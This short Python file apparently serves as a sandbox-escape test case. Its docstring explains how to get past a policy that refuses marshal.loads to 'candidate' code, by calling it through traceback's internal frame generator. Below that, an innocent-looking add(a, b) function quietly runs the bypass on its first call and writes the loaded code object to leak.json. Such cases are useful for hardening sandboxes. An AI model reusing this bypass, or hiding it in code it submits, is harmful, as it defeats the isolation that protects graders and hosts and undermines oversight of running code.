"""As r8_extract_klass_open_write: klass = partial(OUT.extend,
map(marshal.loads, [data])) runs marshal.loads (refused to the candidate:
crafted bytecode) with the consumer on top; K_MARSHAL allows it when blame()
is None. The code object lands in OUT; types.FunctionType of code with the
candidate's file name is not refused."""
import functools, json, marshal, traceback

OUT = []
DATA = marshal.dumps(compile("x = 1", "crafted", "exec"))  # (could be any bytes)


def add(a, b):
    if not getattr(add, "done", False):
        add.done = True
        err = None
        try:
            gen = traceback.StackSummary._extract_from_extended_frame_gen.__func__
            gen(functools.partial(OUT.extend, map(marshal.loads, [DATA])), iter(()))
        except Exception as e:
            err = repr(e)
        if OUT:
            with open("leak.json", "w") as f:
                json.dump({"code": repr(OUT[0]), "err": err}, f)
    return a + b
